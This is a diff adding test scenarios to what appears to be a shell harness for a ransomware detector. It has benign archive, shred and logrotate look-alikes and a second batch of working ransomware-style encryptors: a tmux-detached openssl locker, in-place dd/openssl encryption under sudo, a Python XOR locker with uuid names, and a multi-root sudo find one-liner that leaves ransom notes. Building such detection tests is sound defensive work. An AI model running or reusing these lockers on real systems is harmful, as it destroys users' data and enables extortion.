@@ -649,3 +649,184 @@ sc_b30_cron_mark_processed() {
   echo "$m $h * * * /home/svc-nas/bin/ingest.sh" | crontab -u svc-nas -
   wait_cron /tmp/.b30-done; sleep 2; crontab -u svc-nas -r; rm -rf /srv/nas/ingest-archive /home/svc-nas/bin
 }
+
+# ---- tenth batch, look-alikes an admin's or user's day really has: tar --remove-files of last month's folders, 7z -sdel
+# and zip -m without a password, a cron shred -u of expired exports, the real logrotate (dateext, compress,
+# delaycompress), rsync --backup --suffix over a mirror, a nightly gpg -c of a dump that keeps it, photos renamed to
+# content-hash names
+sc_b31_ssh_tar_remove_files_monthly() {
+  sshx mkowalski 'cd ~/Documents && mkdir -p ~/archive && for d in */; do d=${d%/}; tar czf ~/archive/"$d"-2026-11.tar.gz --remove-files "$d"; done; ls ~/archive | wc -l'
+  rm -rf /home/mkowalski/archive
+}
+sc_b32_ssh_7z_sdel_zip_m_nopass() {
+  sshx svc-nas 'cd /srv/nas/share && i=0; for d in */; do d=${d%/}; i=$((i+1)); if [ $((i % 2)) = 1 ]; then 7z a -bd -sdel "$d.7z" "$d" >/dev/null; else zip -q -r -m "$d.zip" "$d"; fi; done; ls | wc -l'
+}
+pre_b33_cron_shred_expired_exports() {
+  rm -rf /srv/nas/exports; install -d -o svc-nas -g svc-nas /srv/nas/exports
+  for i in $(seq 1 50); do f=/srv/nas/exports/orders-$(date -d "-$((30 + i)) days" +%F).csv; head -c 4000 /dev/urandom | base64 > $f; touch -d "-$((30 + i)) days" $f; done
+  for i in $(seq 1 10); do f=/srv/nas/exports/orders-$(date -d "-$i days" +%F).csv; head -c 4000 /dev/urandom | base64 > $f; touch -d "-$i days" $f; done
+  chown -R svc-nas: /srv/nas/exports
+}
+sc_b33_cron_shred_expired_exports() {
+  rm -f /tmp/.b33-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * find /srv/nas/exports -name 'orders-*.csv' -mtime +30 -exec shred -u {} + ; touch /tmp/.b33-done" | crontab -u svc-nas -
+  wait_cron /tmp/.b33-done; sleep 2; crontab -u svc-nas -r; rm -rf /srv/nas/exports
+}
+pre_b34_cron_logrotate_dateext() {
+  # the shop's app logs under /srv/shopapp/log, rotated daily by the packaged logrotate; yesterday's rotation is there
+  # uncompressed (delaycompress), the day before gzipped, and logrotate's state says they were last rotated yesterday
+  rm -rf /srv/shopapp/log; mkdir -p /srv/shopapp/log; 
+  printf 'logrotate state -- version 2\n' > /var/lib/logrotate/status
+  for k in api worker mailer billing search auth cart media cron-jobs import export payments reports sessions stock; do
+    head -c 30000 /dev/urandom | base64 > /srv/shopapp/log/$k.log
+    head -c 30000 /dev/urandom | base64 > /srv/shopapp/log/$k.log-$(date -d yesterday +%Y%m%d)
+    head -c 9000 /dev/urandom | base64 | gzip > /srv/shopapp/log/$k.log-$(date -d '-2 days' +%Y%m%d).gz
+    printf '"/srv/shopapp/log/%s.log" %s\n' $k "$(date -d yesterday +%Y-%-m-%-d-3:0:0)" >> /var/lib/logrotate/status
+  done
+  cat > /etc/logrotate.d/shopapp <<'L'
+/srv/shopapp/log/*.log {
+    daily
+    rotate 7
+    dateext
+    dateformat -%Y%m%d
+    compress
+    delaycompress
+    missingok
+    notifempty
+    create 0640 root adm
+}
+L
+}
+sc_b34_cron_logrotate_dateext() {
+  rm -f /tmp/.b34-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * root /usr/sbin/logrotate /etc/logrotate.conf; touch /tmp/.b34-done" > /etc/cron.d/ho-logrotate
+  wait_cron /tmp/.b34-done; sleep 2; rm -f /etc/cron.d/ho-logrotate /etc/logrotate.d/shopapp; rm -rf /srv/shopapp
+}
+pre_b35_ssh_rsync_backup_suffix() {
+  rm -rf /home/priya/mirror; cp -a /home/priya/work /home/priya/mirror
+  find /home/priya/work -type f -exec sh -c 'for f; do echo "edited" >> "$f"; done' _ {} +
+  chown -R priya: /home/priya/mirror /home/priya/work
+}
+sc_b35_ssh_rsync_backup_suffix() {
+  sshx priya 'rsync -a --backup --suffix=.2026-12-07 ~/work/ ~/mirror/ && find ~/mirror -name "*.2026-12-07" | wc -l'
+  rm -rf /home/priya/mirror
+}
+pre_b36_cron_gpg_dump_keep() {
+  install -d -o tomas -g tomas /home/tomas/backup /home/tomas/bin
+  cat > /home/tomas/bin/nightly-dump.sh <<'S'
+#!/bin/bash
+# nightly: dump the shop database (here: a generated SQL file), encrypt a copy for the offsite bucket, keep the dump
+cd "$HOME/backup" || exit 1
+python3 -c "
+import random
+r = random.Random(7)
+with open('shop-$(date +%F).sql', 'w') as f:
+    for i in range(40000): f.write(\"INSERT INTO orders VALUES (%d, '%s', %d);\n\" % (i, 'c%06d' % r.randint(0, 999999), r.randint(1, 9999)))
+"
+gpg --batch --yes --pinentry-mode loopback --passphrase-file "$HOME/.dump-pw" -c -o "shop-$(date +%F).sql.gpg" "shop-$(date +%F).sql"
+sha256sum shop-*.sql.gpg > SHA256SUMS
+touch /tmp/.b36-done
+S
+  echo dump-pw-2003 > /home/tomas/.dump-pw; chmod 600 /home/tomas/.dump-pw
+  chown -R tomas: /home/tomas/bin /home/tomas/backup /home/tomas/.dump-pw; chmod 755 /home/tomas/bin/nightly-dump.sh
+}
+sc_b36_cron_gpg_dump_keep() {
+  rm -f /tmp/.b36-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * /home/tomas/bin/nightly-dump.sh" | crontab -u tomas -
+  wait_cron /tmp/.b36-done; sleep 2; crontab -u tomas -r; rm -rf /home/tomas/backup /home/tomas/bin /home/tomas/.dump-pw
+}
+pre_b37_ssh_photos_hash_names() {
+  rm -rf /home/tomas/photos; mkdir -p /home/tomas/photos/2026-12
+  for i in $(seq 1 60); do head -c 5000 /dev/urandom > /home/tomas/photos/2026-12/IMG_$((2000+i)).JPG; done
+  install -d -o tomas -g tomas /home/tomas/bin
+  cat > /home/tomas/bin/dedupe-photos.py <<'P'
+import hashlib, os, sys
+# name each photo by the sha1 of its content, so duplicates collapse to one name
+for root, dirs, files in os.walk(sys.argv[1]):
+    for n in files:
+        p = os.path.join(root, n)
+        with open(p, 'rb') as f:
+            h = hashlib.sha1(f.read()).hexdigest()
+        os.rename(p, os.path.join(root, h + '.jpg'))
+P
+  chown -R tomas: /home/tomas/photos /home/tomas/bin
+}
+sc_b37_ssh_photos_hash_names() {
+  sshx tomas 'python3 ~/bin/dedupe-photos.py ~/photos && ls ~/photos/2026-12 | wc -l'
+  rm -rf /home/tomas/photos /home/tomas/bin
+}
+
+# ---- tenth batch, attacks: a locker left running in a detached tmux by a user who logs out, in-place encryption
+# through dd | openssl | dd conv=notrunc (no rename), a python locker naming each file <uuid>.lck, a sudo find over
+# several roots at once
+pre_h25_ssh_tmux_detached_logout() {
+  install -d -o mkowalski -g mkowalski /home/mkowalski/.cache
+  cat > /home/mkowalski/.cache/.tm.sh <<'S'
+#!/bin/bash
+find "$HOME/Documents" -type f | while read -r f; do
+  openssl enc -aes-256-cbc -pbkdf2 -pass pass:TmX-41 -in "$f" -out "$f.tmx" && rm -f "$f"
+done
+for d in "$HOME"/Documents/*/; do printf 'Encrypted. Mail tmx@onion.example with your id\n' > "$d/TMX-RECOVER.txt"; done
+touch /tmp/.h25-done
+S
+  chown mkowalski: /home/mkowalski/.cache/.tm.sh; chmod 755 /home/mkowalski/.cache/.tm.sh
+}
+sc_h25_ssh_tmux_detached_logout() {
+  rm -f /tmp/.h25-done
+  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -mindepth 1 -type d | wc -l)" > $CASE/facts
+  # the ssh session ends at once; the tmux server (daemonized, its parent gone) runs the job after the logout
+  sshx mkowalski 'tmux new-session -d -s upd "sleep 2; ~/.cache/.tm.sh"; exit 0'
+  wait_cron /tmp/.h25-done; sleep 1
+  su - mkowalski -c 'tmux kill-server' >/dev/null 2>&1; rm -f /home/mkowalski/.cache/.tm.sh /tmp/.h25-done
+}
+sc_h26_ssh_sudo_dd_openssl_inplace() {
+  install -d -m 755 /usr/local/lib/.ddc
+  cat > /usr/local/lib/.ddc/c.sh <<'S'
+#!/bin/bash
+# in place, same size, no rename: read through dd, encrypt as a stream, write back over the same blocks
+find /var/www/shop/uploads /srv/nas/share -type f | while read -r f; do
+  dd if="$f" bs=64k status=none | openssl enc -aes-256-ctr -nosalt -pbkdf2 -pass pass:dd-N0tr | dd of="$f" bs=64k conv=notrunc status=none
+done
+for d in /var/www/shop/uploads/*/ /srv/nas/share/*/; do printf 'Your data is encrypted in place. ddc@onion.example\n' > "$d/DDC_README.txt"; done
+S
+  chmod 755 /usr/local/lib/.ddc/c.sh
+  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -mindepth 1 -type d | wc -l) + $(find /var/www/shop/uploads -mindepth 1 -type d | wc -l) ))" > $CASE/facts
+  sshx deploy 'sudo /usr/local/lib/.ddc/c.sh'
+  rm -rf /usr/local/lib/.ddc
+}
+sc_h27_ssh_python_uuid_suffix() {
+  install -d -m 755 /var/tmp/.u
+  cat > /var/tmp/.u/lk.py <<'P'
+import os, sys, uuid
+key = b'uuid-locker-k3y!'
+for root, dirs, files in os.walk(sys.argv[1]):
+    for n in files:
+        if n.endswith('.lck') or n == 'UUID-LOCKED.txt':
+            continue
+        p = os.path.join(root, n)
+        with open(p, 'rb') as f:
+            data = f.read()
+        with open(os.path.join(root, str(uuid.uuid4()) + '.lck'), 'wb') as out:
+            out.write(bytes(b ^ key[i % 16] for i, b in enumerate(data)))
+        os.unlink(p)
+    with open(os.path.join(root, 'UUID-LOCKED.txt'), 'w') as f:
+        f.write('names and contents locked; lck@onion.example\n')
+P
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx priya 'python3 /var/tmp/.u/lk.py ~/work'
+  rm -rf /var/tmp/.u
+}
+pre_h28_ssh_sudo_find_multi_roots() {
+  # the remote command as typed, kept in a file so no quoting layer of the harness changes it
+  cat > $HO/h28.cmd <<'C'
+sudo find / -xdev \( -path '/home/*' -o -path '/srv/*' -o -path '/var/www/*' \) -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.jpg' -o -name '*.png' -o -name '*.csv' -o -name '*.odt' -o -name '*.sql' -o -name '*.psd' \) -exec sh -c 'for f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:mR-0ots -in "$f" -out "$f.mroot" && rm -f "$f"; done' _ {} + ; for d in /home/*/ /srv/*/ /var/www/*/; do echo 'all your roots are encrypted: mroot@onion.example' | sudo tee "$d/MROOT-README.txt" >/dev/null; done
+C
+}
+sc_h28_ssh_sudo_find_multi_roots() {
+  echo "files $(find / -xdev \( -path '/home/*' -o -path '/srv/*' -o -path '/var/www/*' \) -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.jpg' -o -name '*.png' -o -name '*.csv' -o -name '*.odt' -o -name '*.sql' -o -name '*.psd' \) | wc -l) dirs $(ls -d /home/*/ /srv/*/ /var/www/*/ | wc -l)" > $CASE/facts
+  sshx mkowalski "$(cat $HO/h28.cmd)"
+  rm -f $HO/h28.cmd /home/*/MROOT-README.txt /var/www/*/MROOT-README.txt
+}
